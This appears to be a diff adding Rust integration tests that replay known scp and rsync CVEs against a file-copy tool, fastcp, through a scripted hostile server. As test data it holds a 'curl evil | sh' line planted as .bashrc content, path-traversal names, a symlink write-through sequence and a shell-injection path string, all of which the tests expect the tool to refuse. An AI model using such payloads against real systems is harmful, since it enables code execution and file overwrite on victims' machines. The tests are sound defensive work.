@@ -1,0 +1,276 @@
+//! The peers' CVEs, replayed against fastcp end to end (see ../shared/PEERS.md).
+//!
+//! A hostile server is a real sshd whose `--remote-path` program is a script that ignores the
+//! client and writes crafted fastcp frames, so the client faces exactly what a compromised
+//! host could send.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+use bytes::{Bytes, BytesMut};
+use fastcp_proto::{
+    Accept, Data, FileEnd, FileEntry, Frame, Hello, Meta, Rendezvous, Summary, SymlinkEntry, encode,
+};
+use fastcp_testsupport::Sshd;
+use fastcp_testsupport::tree::{assert_no_temp, scan, write};
+
+const BIN: &str = env!("CARGO_BIN_EXE_fastcp");
+
+fn fastcp(sshd: &Sshd, remote_path: &Path) -> Command {
+    let mut cmd = Command::new(BIN);
+    cmd.arg("-F")
+        .arg(sshd.ssh_config())
+        .arg("--remote-path")
+        .arg(remote_path)
+        .env_remove("SSH_AUTH_SOCK");
+    cmd
+}
+
+fn run(cmd: &mut Command) -> Output {
+    let out = cmd.output().expect("run fastcp");
+    eprintln!(
+        "fastcp exited {:?}\nstderr: {}",
+        out.status,
+        String::from_utf8_lossy(&out.stderr)
+    );
+    out
+}
+
+fn stderr(out: &Output) -> String {
+    String::from_utf8_lossy(&out.stderr).into_owned()
+}
+
+fn script(dir: &Path, name: &str, body: &str) -> PathBuf {
+    let path = dir.join(name);
+    std::fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
+    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    path
+}
+
+/// A "server" that answers any client with `frames` after a valid hello and accept.
+fn hostile_server(dir: &Path, frames: &[Frame]) -> PathBuf {
+    let mut wire = BytesMut::new();
+    for frame in [
+        Frame::Hello(Hello {
+            version: fastcp_proto::PROTOCOL_VERSION,
+            min_version: fastcp_proto::MIN_PROTOCOL_VERSION,
+            cpu_features: 0b11,
+            ciphers: vec![1, 2, 3],
+            compression: vec![0],
+            max_frame: fastcp_proto::DEFAULT_MAX_FRAME,
+            software: "hostile".into(),
+        }),
+        Frame::Accept(Accept {
+            streams: 1,
+            rendezvous: Rendezvous::None,
+            server_random: [7; 32],
+        }),
+    ]
+    .iter()
+    .chain(frames)
+    {
+        encode(frame, &mut wire);
+    }
+    let payload = dir.join("payload.bin");
+    std::fs::write(&payload, &wire).unwrap();
+    // Write everything, then keep reading stdin so the client's writes never fail first.
+    script(
+        dir,
+        "hostile-fastcp",
+        &format!("cat '{}'; cat > /dev/null", payload.display()),
+    )
+}
+
+fn file(id: u64, path: &[u8], content: &[u8]) -> Vec<Frame> {
+    vec![
+        Frame::File(FileEntry {
+            id,
+            path: Bytes::copy_from_slice(path),
+            size: content.len() as u64,
+            meta: Meta {
+                mode: 0o644,
+                mtime: 0,
+                mtime_nsec: 0,
+            },
+        }),
+        Frame::Data(Data {
+            id,
+            offset: 0,
+            bytes: Bytes::copy_from_slice(content),
+        }),
+        Frame::FileEnd(FileEnd {
+            id,
+            hash: *blake3::hash(content).as_bytes(),
+        }),
+    ]
+}
+
+fn done(files: u64, bytes: u64) -> Frame {
+    Frame::Done(Summary {
+        files,
+        bytes,
+        ..Summary::default()
+    })
+}
+
+/// Pulls `host:<asked>` into `dest` from a server that sends `frames`; checks that it fails
+/// and that nothing appeared outside `dest` or under a name nobody asked for.
+fn pull_from_hostile(frames: Vec<Frame>, asked: &str) -> (Output, tempfile::TempDir) {
+    let sshd = Sshd::start().unwrap();
+    let work = tempfile::tempdir().unwrap();
+    let server = hostile_server(work.path(), &frames);
+    let dest = work.path().join("dest");
+    std::fs::create_dir(&dest).unwrap();
+    let out = run(fastcp(&sshd, &server)
+        .args(["-r", "--transport", "ssh"])
+        .arg(format!("{}:{asked}", sshd.alias()))
+        .arg(&dest));
+    assert!(!out.status.success(), "the hostile stream was accepted");
+    assert_no_temp(&dest);
+    (out, work)
+}
+
+/// CVE-2019-6111: a server answering a request for `a.txt` with another file name.
+#[test]
+fn cve_2019_6111_server_cannot_send_unrequested_names() {
+    let mut frames = file(1, b".bashrc", b"curl evil | sh\n");
+    frames.push(done(1, 15));
+    let (out, work) = pull_from_hostile(frames, "a.txt");
+    assert!(scan(&work.path().join("dest")).is_empty());
+    assert!(stderr(&out).contains(".bashrc"), "{}", stderr(&out));
+}
+
+/// CVE-2018-20685 and CVE-2019-6111: "." and ".." names, absolute paths.
+#[test]
+fn cve_2018_20685_dot_dotdot_and_absolute_names_are_refused() {
+    for evil in [
+        &b"."[..],
+        b"..",
+        b"../escape",
+        b"/tmp/escape",
+        b"a.txt/../../x",
+    ] {
+        let mut frames = file(1, evil, b"x");
+        frames.push(done(1, 1));
+        let (_out, work) = pull_from_hostile(frames, "a.txt");
+        let names: Vec<_> = std::fs::read_dir(work.path())
+            .unwrap()
+            .map(|e| e.unwrap().file_name().into_string().unwrap())
+            .collect();
+        assert!(
+            names
+                .iter()
+                .all(|n| ["dest", "payload.bin", "hostile-fastcp"].contains(&n.as_str())),
+            "{evil:?} wrote {names:?}"
+        );
+        assert!(scan(&work.path().join("dest")).is_empty(), "{evil:?}");
+    }
+}
+
+/// CVE-2024-12088 and CVE-2024-12747: a symlink followed by a write through it.
+#[test]
+fn cve_2024_12088_no_write_through_a_symlink_from_the_server() {
+    let outside = tempfile::tempdir().unwrap();
+    let mut frames = vec![Frame::Dir(fastcp_proto::DirEntry {
+        path: Bytes::from_static(b"d"),
+        meta: Meta {
+            mode: 0o755,
+            mtime: 0,
+            mtime_nsec: 0,
+        },
+    })];
+    frames.push(Frame::Symlink(SymlinkEntry {
+        path: Bytes::from_static(b"d/link"),
+        target: Bytes::copy_from_slice(outside.path().as_os_str().as_encoded_bytes()),
+    }));
+    frames.extend(file(1, b"d/link/pwned", b"owned"));
+    frames.push(done(1, 5));
+    let (_out, _work) = pull_from_hostile(frames, "d");
+    assert!(scan(outside.path()).is_empty(), "wrote through the link");
+}
+
+/// CVE-2020-15778: shell metacharacters in a remote path are data, never commands.
+#[test]
+fn cve_2020_15778_remote_paths_never_reach_a_shell() {
+    let sshd = Sshd::start().unwrap();
+    let work = tempfile::tempdir().unwrap();
+    let src = work.path().join("a");
+    write(&src, b"payload", 0o644);
+    let canary = work.path().join("canary");
+    let dest_dir = work.path().join("dest");
+    std::fs::create_dir(&dest_dir).unwrap();
+    let evil = format!("x;touch {0};$(touch {0})`touch {0}`", canary.display());
+    let out = run(fastcp(&sshd, Path::new(BIN)).arg(&src).arg(format!(
+        "{}:{}/{evil}",
+        sshd.alias(),
+        dest_dir.display()
+    )));
+    assert!(!canary.exists(), "a remote shell ran part of the path");
+    // The path is a (strange) file name like any other; it may be created or refused.
+    assert!(out.status.code().is_some());
+}
+
+/// CVE-2023-43621: no secret or path on the remote command line or in its environment.
+#[test]
+fn cve_2023_43621_remote_command_line_is_fixed() {
+    let sshd = Sshd::start().unwrap();
+    let work = tempfile::tempdir().unwrap();
+    let log = work.path().join("argv.log");
+    let wrapper = script(
+        work.path(),
+        "recording-fastcp",
+        &format!(
+            "printf '%s\\n' \"$@\" > '{0}'; env >> '{0}'; exec '{BIN}' \"$@\"",
+            log.display()
+        ),
+    );
+    let src = work.path().join("secret-name.txt");
+    write(&src, b"x", 0o644);
+    for transport in ["ssh", "tcp"] {
+        let out = run(fastcp(&sshd, &wrapper)
+            .args(["--transport", transport])
+            .arg(&src)
+            .arg(format!(
+                "{}:{}",
+                sshd.alias(),
+                work.path().join("copy").display()
+            )));
+        assert!(out.status.success(), "{}", stderr(&out));
+        let recorded = std::fs::read_to_string(&log).unwrap();
+        let mut lines = recorded.lines();
+        assert_eq!(lines.next(), Some("server"), "{recorded}");
+        assert!(!recorded.contains("secret-name"), "{recorded}");
+        assert!(!recorded.contains("copy"), "{recorded}");
+    }
+}
+
+/// PEERS.md lesson 10: the receiver's CPU counts. A server without AES hardware makes the
+/// client pick ChaCha20-Poly1305 although the client has AES.
+#[test]
+fn receiver_without_aes_gets_chacha20() {
+    let sshd = Sshd::start().unwrap();
+    let work = tempfile::tempdir().unwrap();
+    let no_aes = script(
+        work.path(),
+        "no-aes-fastcp",
+        &format!("FASTCP_NO_HW_AES=1 exec '{BIN}' \"$@\""),
+    );
+    let src = work.path().join("a");
+    write(&src, &vec![7u8; 3 << 20], 0o644);
+    let out = run(fastcp(&sshd, &no_aes)
+        .env_remove("FASTCP_NO_HW_AES")
+        .args(["--transport", "tcp", "--json"])
+        .arg(&src)
+        .arg(format!(
+            "{}:{}",
+            sshd.alias(),
+            work.path().join("b").display()
+        )));
+    assert!(out.status.success(), "{}", stderr(&out));
+    let summary: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(summary["cipher"], "chacha20-poly1305");
+    assert_eq!(
+        std::fs::read(work.path().join("b")).unwrap(),
+        vec![7u8; 3 << 20]
+    );
+}
